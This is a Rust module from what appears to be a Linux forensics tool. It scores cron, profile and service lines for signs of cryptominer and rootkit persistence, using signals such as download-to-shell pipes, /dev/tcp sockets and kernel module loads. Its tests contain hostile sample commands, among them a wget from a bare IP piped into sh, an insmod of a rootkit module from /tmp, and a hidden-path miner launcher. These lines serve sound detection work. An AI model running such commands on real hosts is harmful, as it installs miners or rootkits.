//! Shared pieces of the footholds detectors: the accounts of the host (from its own `/etc/passwd`),
//! where a path sits (crontab, profile, history, ...), and the one scoring of shell text every
//! persistence detector uses, so a line rates the same wherever it persists.
//!
//! Severity comes from points: each signal adds points with a reason, and [`Score::severity`] maps the sum
//! (0 nothing, 1 low, 2–3 medium, 4–6 high, 7+ critical). A single weak signal stays low.

use minetrace_schemas::findings::{Finding, Severity, Subject};
use minetrace_schemas::records::file::{FileKind, FileRecord};
use minetrace_schemas::{escape_bytes, RawBytes};

use crate::detect::finding::{file_subject, persistence_subject, FindingExt};
use crate::detect::Context;
use crate::indicators::Indicators;
use crate::model::HostModel;
use crate::parse::passwd::{parse_passwd, PasswdEntry};
use crate::parse::shell_line::{self, ShellLine};
use crate::parse::{basename, contains};

/// Points and the reasons they were given.
#[derive(Debug, Clone, Default)]
pub struct Score {
    pub points: u32,
    pub reasons: Vec<String>,
    /// A family marker matched what persists.
    pub family: Option<String>,
}

impl Score {
    pub fn add(&mut self, points: u32, reason: impl Into<String>) {
        self.points += points;
        self.reasons.push(reason.into());
    }

    pub fn merge(&mut self, other: Score) {
        self.points += other.points;
        self.reasons.extend(other.reasons);
        if self.family.is_none() {
            self.family = other.family;
        }
    }

    pub fn severity(&self) -> Option<Severity> {
        match self.points {
            0 => None,
            1 => Some(Severity::Low),
            2..=3 => Some(Severity::Medium),
            4..=6 => Some(Severity::High),
            _ => Some(Severity::Critical),
        }
    }
}

/// Scores one piece of persisted shell text (a cron command, an `Exec*=` line, an rc or profile line).
/// History tampering and `LD_PRELOAD` are left to their own detectors.
pub fn score_shell(text: &[u8], iocs: &Indicators) -> (Score, ShellLine) {
    let s = shell_line::analyze(text);
    let mut score = Score::default();
    if s.download_to_shell {
        score.add(4, "downloads a script and pipes it into a shell");
    } else if s.download_then_exec {
        score.add(3, "downloads a file and runs it");
    }
    if s.decode_to_shell {
        score.add(4, "decodes base64 and pipes it into a shell");
    } else if s.base64_decode {
        score.add(2, "decodes base64");
    }
    if s.dev_tcp {
        score.add(
            4,
            "opens a /dev/tcp socket (reverse shell or curl-less download)",
        );
    }
    if !s.bare_ips.is_empty() {
        let pts = if s.download { 2 } else { 1 };
        score.add(pts, format!("reaches bare IP {}", s.bare_ips.join(", ")));
    }
    if let Some(p) = s.temp_exec.first() {
        score.add(
            3,
            format!("runs {} from a temporary directory", escape_bytes(p)),
        );
    }
    if let Some(p) = s.hidden_exec.first() {
        score.add(1, format!("runs {} from a hidden path", escape_bytes(p)));
    }
    // `modprobe NAME` loads a module the system ships (systemd's modprobe@.service does it); loading a
    // module *file* (`insmod /path/x.ko`) is what rootkit installers do.
    for m in s
        .module_loads
        .iter()
        .filter(|m| m.contains(&b'/') || m.ends_with(b".ko"))
    {
        let odd = shell_line::in_temp_dir(m) || shell_line::has_hidden_component(m);
        score.add(
            if odd { 4 } else { 2 },
            format!("loads kernel module file {}", escape_bytes(m)),
        );
    }
    if !s.mention_only {
        let lossy = String::from_utf8_lossy(text);
        if let Some(flag) = iocs.find_in("miner_flag", &lossy) {
            score.add(3, format!("miner option {flag:?}"));
        } else if let Some(name) = s
            .executed
            .iter()
            .chain(s.commands.iter())
            .map(|p| String::from_utf8_lossy(basename(p)).to_ascii_lowercase())
            .find(|n| iocs.contains("miner_name", n))
        {
            score.add(3, format!("runs a miner named {name}"));
        }
        if let Some(domain) = s
            .urls
            .iter()
            .find_map(|u| iocs.find_in("pool_domain", &String::from_utf8_lossy(u)))
        {
            score.add(2, format!("reaches mining pool domain {domain}"));
        }
        if let Some(m) = iocs.family_markers.iter().find(|m| {
            (m.kind == "cron" && lossy.contains(m.value.as_str()))
                || (m.kind == "path" && s.executed.iter().any(|p| path_marker_matches(&m.value, p)))
                || (m.kind == "name"
                    && s.executed.iter().any(|p| basename(p) == m.value.as_bytes()))
        }) {
            score.add(
                4,
                format!("matches {} marker {} {}", m.family, m.kind, m.value),
            );
            score.family = Some(m.family.clone());
        }
    }
    (score, s)
}

/// A `path` family marker: exact, or a prefix when it ends in `/`; `~`-relative paths match any home.
pub fn path_marker_matches(marker: &str, path: &[u8]) -> bool {
    let m = marker.as_bytes();
    if m.ends_with(b"/") {
        path.starts_with(m) || (m.starts_with(b"/.") && contains(path, m))
    } else {
        path == m
    }
}

/// The family whose `path` marker names this file, if any.
pub fn family_of_path(iocs: &Indicators, path: &[u8]) -> Option<String> {
    iocs.family_markers
        .iter()
        .find(|m| m.kind == "path" && path_marker_matches(&m.value, path))
        .map(|m| m.family.clone())
}

/// The host's accounts from its captured `/etc/passwd`.
pub struct Accounts {
    pub entries: Vec<PasswdEntry>,
}

impl Accounts {
    pub fn of(model: &HostModel) -> Accounts {
        let entries = model
            .file(b"/etc/passwd")
            .and_then(|f| model.content(f))
            .map(parse_passwd)
            .unwrap_or_default();
        Accounts { entries }
    }

    pub fn by_name(&self, name: &[u8]) -> Option<&PasswdEntry> {
        self.entries.iter().find(|e| e.name == name)
    }

    pub fn by_uid(&self, uid: u32) -> Option<&PasswdEntry> {
        self.entries.iter().find(|e| e.uid == uid)
    }

    /// The account whose home directory holds `path` (longest home wins; `/` never counts).
    pub fn owner_of_path(&self, path: &[u8]) -> Option<&PasswdEntry> {
        self.entries
            .iter()
            .filter(|e| e.home.len() > 1)
            .filter(|e| {
                let home = e.home.strip_suffix(b"/").unwrap_or(&e.home);
                path.starts_with(home) && path.get(home.len()) == Some(&b'/')
            })
            // Longest home wins; among accounts sharing it (root and a UID-0 twin) the first line.
            .min_by_key(|e| (std::cmp::Reverse(e.home.len()), e.line))
    }

    /// A service or system account: listed as `service_account`, or a non-root uid below 1000 other than
    /// the human-looking admin accounts.
    pub fn is_service(&self, iocs: &Indicators, name: &[u8]) -> bool {
        let lossy = String::from_utf8_lossy(name);
        if iocs.contains("service_account", &lossy) {
            return true;
        }
        self.by_name(name)
            .is_some_and(|e| e.uid != 0 && e.uid < 1000)
    }
}

/// The subject for an account by name, with its uid when known.
pub fn account_subject(accounts: &Accounts, name: &[u8]) -> Subject {
    Subject::Account {
        name: RawBytes::from(name),
        uid: accounts.by_name(name).map(|e| e.uid),
    }
}

/// Captured regular files whose path satisfies `pick`, with their bytes.
pub fn captured<'a>(
    model: &'a HostModel,
    pick: impl Fn(&[u8]) -> bool + 'a,
) -> impl Iterator<Item = (&'a FileRecord, &'a [u8])> + 'a {
    model
        .files
        .iter()
        .filter(|f| f.kind == FileKind::Regular)
        .filter(move |f| pick(f.path.as_bytes()))
        .filter_map(move |f| Some((f, model.content(f)?)))
}

/// Evidence line describing a file: path, owner, mode, size, flags.
pub fn describe_file(f: &FileRecord) -> String {
    let mut flags = Vec::new();
    if f.immutable {
        flags.push("immutable");
    }
    if f.append_only {
        flags.push("append-only");
    }
    format!(
        "{} (uid {}, mode {:o}, {} bytes, mtime {}{}{})",
        f.path.escaped(),
        f.uid,
        f.mode & 0o7777,
        f.size,
        f.mtime.secs,
        if flags.is_empty() { "" } else { ", " },
        flags.join(", ")
    )
}

/// Evidence line quoting one line of a file.
pub fn quote_line(path: &RawBytes, line: u32, text: &[u8]) -> String {
    let mut t = escape_bytes(text);
    if t.len() > 400 {
        let mut cut = 400;
        while !t.is_char_boundary(cut) {
            cut -= 1;
        }
        t.truncate(cut);
        t.push_str("...");
    }
    format!("{}:{}: {}", path.escaped(), line, t)
}

/// A finding about one persisted line: `Persistence{path,line}` plus the file, the score's reasons as
/// evidence, and captured files it runs from temp or hidden places as further subjects.
#[allow(clippy::too_many_arguments)]
pub fn line_finding(
    ctx: &Context,
    rule: &str,
    title: &str,
    attack: &[&str],
    file: &FileRecord,
    line: u32,
    text: &[u8],
    score: &Score,
    shell: Option<&ShellLine>,
) -> Option<Finding> {
    let severity = score.severity()?;
    let mut f = crate::detect::finding::finding(rule, severity, title)
        .attack(attack)
        .subject(persistence_subject(&file.path, line))
        .subject(file_subject(file))
        .evidence(quote_line(&file.path, line, text))
        .family(score.family.clone());
    for r in &score.reasons {
        f = f.evidence(r.clone());
    }
    f = f.evidence(format!("file: {}", describe_file(file)));
    if let Some(s) = shell {
        if severity >= Severity::Medium {
            for p in s.temp_exec.iter().chain(s.hidden_exec.iter()) {
                if let Some(target) = ctx.model.file(p) {
                    f = f.subject(file_subject(target));
                }
            }
        }
    }
    Some(f)
}

/// Extra points for a file locked against removal, given only when the content is already suspicious.
pub fn lock_points(file: &FileRecord, score: &mut Score) {
    if score.points > 0 && (file.immutable || file.append_only) {
        score.add(
            2,
            "the file is locked with chattr (immutable/append-only) against removal",
        );
    }
}

/// Home-directory shell start-up files (`.bashrc`, `.profile`, ...).
pub const HOME_RC: &[&[u8]] = &[
    b".bashrc",
    b".bash_profile",
    b".bash_login",
    b".profile",
    b".bash_logout",
    b".zshrc",
    b".zprofile",
    b".zshenv",
    b".zlogin",
    b".cshrc",
    b".tcshrc",
];

/// System-wide and per-user shell start-up files: where a line runs at every login.
pub fn is_profile_path(path: &[u8]) -> bool {
    let system: &[&[u8]] = &[
        b"/etc/profile",
        b"/etc/bash.bashrc",
        b"/etc/bashrc",
        b"/etc/zshrc",
        b"/etc/zsh/zshrc",
        b"/etc/zsh/zprofile",
        b"/etc/zsh/zshenv",
        b"/etc/csh.cshrc",
        b"/etc/csh.login",
        b"/etc/environment",
    ];
    system.contains(&path)
        || (path.starts_with(b"/etc/profile.d/") && !path.ends_with(b"/"))
        || HOME_RC.contains(&basename(path))
}

/// Shell history files.
pub fn is_history_path(path: &[u8]) -> bool {
    let name = basename(path);
    [
        &b".bash_history"[..],
        b".zsh_history",
        b".sh_history",
        b".ash_history",
        b".history",
        b"fish_history",
        b".mysql_history",
        b".python_history",
        b".psql_history",
    ]
    .contains(&name)
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn scores() {
        let iocs = Indicators::builtin();
        let (s, _) = score_shell(
            b"wget -q -O - http://195.3.146.118/unk.sh | sh > /dev/null 2>&1",
            &iocs,
        );
        assert!(s.severity() >= Some(Severity::High), "{s:?}");
        assert_eq!(s.family.as_deref(), Some("Kinsing"));
        let (s, _) = score_shell(
            b"curl -fsS https://status.example.com/health >/dev/null",
            &iocs,
        );
        assert_eq!(s.severity(), None, "{s:?}");
        let (s, _) = score_shell(
            b"pkill -f xmrig; rm -rf /tmp/.X25-unix; pkill kdevtmpfsi",
            &iocs,
        );
        assert_eq!(s.severity(), None, "{s:?}");
        let (s, _) = score_shell(b"-/sbin/modprobe -abq %i", &iocs);
        assert_eq!(s.severity(), None, "{s:?}");
        let (s, _) = score_shell(b"insmod /tmp/.x/diamorphine.ko", &iocs);
        assert!(s.severity() >= Some(Severity::High), "{s:?}");
        let (s, _) = score_shell(b"~/.configrc/a/upd>/dev/null 2>&1", &iocs);
        assert!(s.severity() >= Some(Severity::High), "{s:?}");
        assert_eq!(s.family.as_deref(), Some("Outlaw"));
    }
}
